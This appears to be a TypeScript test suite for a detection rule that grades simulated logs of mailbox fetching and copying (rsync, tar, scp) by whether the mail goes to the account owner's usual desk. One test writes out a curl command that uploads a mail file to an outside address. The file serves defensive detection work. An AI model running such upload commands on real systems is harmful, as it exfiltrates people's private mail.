import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { World } from '../../state/world.ts';
import type { Process } from '../an0656-phishing-attachment-executed/audit-records.test-support.ts';
import { type Delivered, HOUR, HostLog, MINUTE } from '../an0656-phishing-attachment-executed/host-log.test-support.ts';
import { scanLog } from '../an0656-phishing-attachment-executed/stories.test-support.ts';
import { taintOf } from '../mail-facts.test-support.ts';
import type { HarvestCase } from './case.ts';
import { copiesToOwnDesk, goesToOwnDesk } from './own-desk.ts';

const DESK = '198.51.100.50';
const ELSEWHERE = '192.0.2.77';
const PULL = '/usr/bin/rsync --server --sender -logDtpre.iLsfx . Maildir/';

interface Around {
  readonly to?: string;
  readonly what?: (messages: { mine: Delivered; other: Delivered }) => Delivered;
  readonly line?: string;
  /** What else is done in the session of the fetch. */
  readonly also?: (shell: Process, message: Delivered) => void;
  readonly after?: (log: HostLog) => void;
}

/** clerk, or who else `before` says, has logged in; then a command of clerk's session fetches a message to `to`. */
async function fetched(
  before: (log: HostLog) => void,
  { to = DESK, what = ({ mine }) => mine, line = PULL, also, after }: Around = {},
): Promise<string> {
  const log = new HostLog();
  const messages = { mine: log.deliver(), other: log.deliver({ to: 'buyer' }) };
  const ops = log.shell('ops', DESK);
  ops.write('/home/ops/notes.txt');
  ops.run('/usr/bin/curl -s https://www.example.net/').connect('203.0.113.80', 443);
  before(log);
  log.wait(MINUTE);
  const shell = log.remote('clerk', line, to);
  const command = shell.run(line).read(what(messages).path);
  if (line !== PULL) command.write('/home/clerk/.cache/x');
  also?.(shell, what(messages));
  log.wait(MINUTE);
  after?.(log);
  return (await scanLog(log)).map(({ severity }) => severity).join();
}
const sat = (log: HostLog): void => void log.shell('clerk', DESK).run('/usr/bin/du -sh Maildir');

test('the own mail, fetched to where that account sat at a terminal before', async () => {
  assert.equal(await fetched(sat), 'informational');
});

test('to anywhere else, or where it never sat at a terminal', async () => {
  assert.equal(await fetched(sat, { to: ELSEWHERE }), 'medium', 'another address');
  assert.equal(await fetched(() => {}), 'medium', 'only somebody else sat there');
  assert.equal(await fetched(() => {}, { after: sat }), 'medium', 'it sat there only afterwards');
  const asks = (log: HostLog): void => void log.remote('clerk', 'date', DESK).run('/usr/bin/date');
  assert.equal(await fetched(asks), 'medium', 'no terminal');
  const asksThere = (log: HostLog): void => {
    asks(log);
    log.wait(MINUTE);
    log.shell('clerk', ELSEWHERE).run('/usr/bin/ls Maildir');
  };
  assert.equal(await fetched(asksThere), 'medium', 'a terminal only elsewhere');
});

test('to where it sat only after it had been at another place', async () => {
  const thief = (log: HostLog): void => {
    sat(log);
    log.wait(MINUTE);
    log.shell('clerk', ELSEWHERE).run('/usr/bin/ls Maildir');
  };
  assert.equal(await fetched(thief, { to: ELSEWHERE }), 'medium');
  assert.equal(await fetched(thief), 'informational', 'the owner is at the desk as ever');
});

interface Visit {
  readonly user: string;
  /** Hours since the visit before. */
  readonly after: number;
  readonly from?: string;
  readonly terminal?: boolean;
}

/** Logins, and then two hours of quiet. */
const visits =
  (...all: readonly Visit[]) =>
  (log: HostLog): void => {
    for (const { user, after, from = DESK, terminal = true } of all) {
      log.wait(after * HOUR + MINUTE);
      if (terminal) log.shell(user, from).run('/usr/bin/ls');
      else log.remote(user, 'date', from).run('/usr/bin/date');
    }
    log.wait(2 * HOUR);
  };
/** ops has come before all of them. */
const colleagues: readonly Visit[] = [
  { user: 'buyer', after: 3 },
  { user: 'ops', after: 20 },
  { user: 'buyer', after: 2 },
];

test('the desks of a site: two others are at home there, and this account has no other place', async () => {
  const others = visits(...colleagues);
  assert.equal(await fetched(others), 'informational');
  assert.equal(await fetched(others, { to: ELSEWHERE }), 'medium', 'nobody else is there');
  assert.equal(await fetched(others, { what: ({ other }) => other }), 'medium', "somebody else's mail");
  assert.equal(
    await fetched(visits(...colleagues, { user: 'clerk', after: 2, from: ELSEWHERE })),
    'medium',
    'elsewhere',
  );
  const cameBefore = visits(...colleagues, { user: 'clerk', after: 2, terminal: false });
  assert.equal(await fetched(cameBefore), 'informational', 'it came from there before');
});

test('one who has come to several accounts from one address is no site', async () => {
  assert.equal(await fetched(visits({ user: 'buyer', after: 0 })), 'medium', 'one after the other');
  assert.equal(await fetched(visits({ user: 'buyer', after: 3 }, { user: 'ops', after: 3 })), 'medium', 'in one day');
  const inOneSpell = visits({ user: 'buyer', after: 0 }, { user: 'ops', after: 20 }, { user: 'buyer', after: 0 });
  assert.equal(await fetched(inOneSpell), 'medium', 'on two days, always one after the other');
  const withOther = visits({ user: 'buyer', after: 0 }, { user: 'ops', after: 20 }, { user: 'ops', after: 3 });
  assert.equal(await fetched(withOther), 'medium', 'one of them only when the other one comes');
});

test('who comes just before it may be the one who takes it, unless the account has come by itself', async () => {
  const justBefore =
    (...more: readonly Visit[]) =>
    (log: HostLog): void => {
      visits(...colleagues, ...more)(log);
      log.shell('buyer', DESK).run('/usr/bin/ls');
    };
  assert.equal(await fetched(justBefore()), 'medium');
  assert.equal(await fetched(justBefore({ user: 'clerk', after: 2, terminal: false })), 'informational');
});

test('an account counts for a person only where it is one, at home there', async () => {
  const asOther = (change: Partial<Visit>): Promise<string> =>
    fetched(visits(...colleagues.map(each => (each.user === 'buyer' ? { ...each, ...change } : each))));
  assert.equal(await asOther({ user: 'dev' }), 'informational');
  assert.equal(await asOther({ user: 'root' }), 'medium', 'an administrator has that one as well');
  assert.equal(await asOther({ terminal: false }), 'medium', 'nobody sits there');
  const hasOwnDesk = visits({ user: 'buyer', after: 1, from: ELSEWHERE }, ...colleagues);
  assert.equal(await fetched(hasOwnDesk), 'medium', 'its desk is elsewhere');
  const returns = visits(...colleagues, { user: 'buyer', after: 1, from: ELSEWHERE });
  assert.equal(await fetched(returns), 'medium', 'whose account it is comes from elsewhere');
});

test("somebody else's mail, or a copy that stays behind", async () => {
  assert.equal(await fetched(sat, { what: ({ other }) => other }), 'medium');
  const copy = await fetched(sat, { line: '/usr/bin/tar czf .cache/x Maildir' });
  assert.equal(copy, 'informational', 'nothing is printed');
});

test('the same session sends it to another place, or to the desk by a connection of its own', async () => {
  const sends = (address: string) =>
    fetched(sat, {
      also: (shell, { path }) =>
        shell.run(`/usr/bin/curl -T ${path} http://${address}/`).read(path).connect(address, 80),
    });
  assert.equal(await sends('203.0.113.66'), 'medium');
  assert.equal(await sends(DESK), 'medium');
});

test('a login that tells no address, as at the console, says nothing of places', async () => {
  const atConsole = (log: HostLog): void => {
    log.shell('clerk', '');
    log.wait(MINUTE);
    sat(log);
  };
  assert.equal(await fetched(atConsole), 'informational');
});

interface Login {
  readonly user?: string;
  readonly time?: number;
  readonly address?: string;
}

/** Where uid 1003 printed its own mail to at the time 100, when `logins` had a terminal each. */
function desk(logins: readonly Login[], { name = 'clerk', host = 'ws1', output = true } = {}): string {
  const taint = taintOf();
  const found = {
    host,
    uid: 1003,
    reads: new Map([['/home/clerk/Maildir', { own: true }]]),
    transfers: [{ taint: output ? taint : taintOf() }],
    printed: { time: 100, peer: DESK, taint },
  } as unknown as HarvestCase;
  const entries = logins.map(
    ({ user = 'clerk', time = 50, address = DESK }, i) => [i, { user, time, address }] as const,
  );
  const state = { sessions: { entries: new Map(entries) }, terminals: { peek: () => ({}) } };
  const world = { hosts: new Map([['ws1', state]]), userName: () => name } as unknown as World;
  return goesToOwnDesk(found, world);
}

test('only logins that came before the output count', () => {
  assert.equal(desk([{ time: 99 }]), DESK);
  assert.equal(desk([{ time: 100 }]), '');
  assert.equal(desk([]), '');
});

test('only logins of that account, and of an account without a name none', () => {
  assert.equal(desk([{ user: 'buyer' }]), '');
  assert.equal(desk([{ user: '' }], { name: '' }), '');
});

test('what is not told as the output of the command, and a host of which nothing is known', () => {
  assert.equal(desk([{}], { output: false }), '');
  assert.equal(desk([{}], { host: 'ws2' }), '');
});

interface Copied {
  readonly to?: string;
  readonly name?: string;
  readonly what?: 'mine' | 'other';
  /** Where the account had logged in before. */
  readonly before?: string;
}

/** clerk, at a terminal from the desk, packs a box and copies it to a machine that its words name. */
async function copied({ to = DESK, name = 'desk.example.org', what = 'mine', before }: Copied = {}): Promise<string> {
  const log = new HostLog();
  const messages = { mine: log.deliver(), other: log.deliver({ to: 'buyer' }) };
  if (before !== undefined) log.shell('clerk', before).run('/usr/bin/ls');
  const shell = log.shell('clerk', DESK);
  shell.run('/usr/bin/tar czf box.tgz Maildir').read(messages[what].path).write('/home/clerk/box.tgz');
  const scp = shell.run(`/usr/bin/scp box.tgz clerk@${name}:`).read('/home/clerk/box.tgz');
  scp.run(`/usr/bin/ssh -x ${name} scp -t .`).connect(to, 22);
  return (await scanLog(log)).map(({ severity }) => severity).join();
}

test('the own mail is copied to a machine of the own domain at which the person sits', async () => {
  assert.equal(await copied(), 'informational');
  assert.equal(await copied({ before: DESK }), 'informational');
});

test('copied to another machine, by another name, of others, or by an account that came from elsewhere first', async () => {
  assert.equal(await copied({ to: '198.51.100.60' }), 'low');
  assert.equal(await copied({ name: 'desk.example.net' }), 'medium');
  assert.equal(await copied({ before: ELSEWHERE }), 'low');
  assert.notEqual(await copied({ what: 'other' }), 'informational');
});

/** The machine of its own at which uid 1003 copied its mail at the time 100, after a login from there. */
function copiedAt({
  name = 'clerk',
  host = 'ws1',
  context = 'interactive',
  contacts = [DESK],
  time = 100,
} = {}): string {
  const found = {
    host,
    uid: 1003,
    context,
    reads: new Map([['/home/clerk/Maildir', { own: true }]]),
    transfers: [{ contact: null }, ...contacts.map(address => ({ contact: { address, time } }))],
  } as unknown as HarvestCase;
  const sessions = { entries: new Map([[1, { user: name, time: 50, address: DESK }]]) };
  const state = { sessions, terminals: { peek: () => ({}) } };
  const world = { hosts: new Map([['ws1', state]]), userName: () => name } as unknown as World;
  return copiesToOwnDesk(found, world);
}

test('a copy counts that somebody made who sat there, by connections that are seen', () => {
  assert.equal(copiedAt(), DESK);
  assert.equal(copiedAt({ contacts: [DESK, DESK] }), DESK);
  assert.equal(copiedAt({ contacts: [DESK, ELSEWHERE] }), '', 'some of it went elsewhere');
  assert.equal(copiedAt({ contacts: [] }), '', 'no connection is seen');
  assert.equal(copiedAt({ context: 'job' }), '', 'nobody sits where a job runs');
  assert.equal(copiedAt({ name: '' }), '', 'an account without a name');
  assert.equal(copiedAt({ host: 'ws2' }), '', 'a host of which nothing is known');
  assert.equal(copiedAt({ time: 50 }), '', 'the login came no earlier');
});
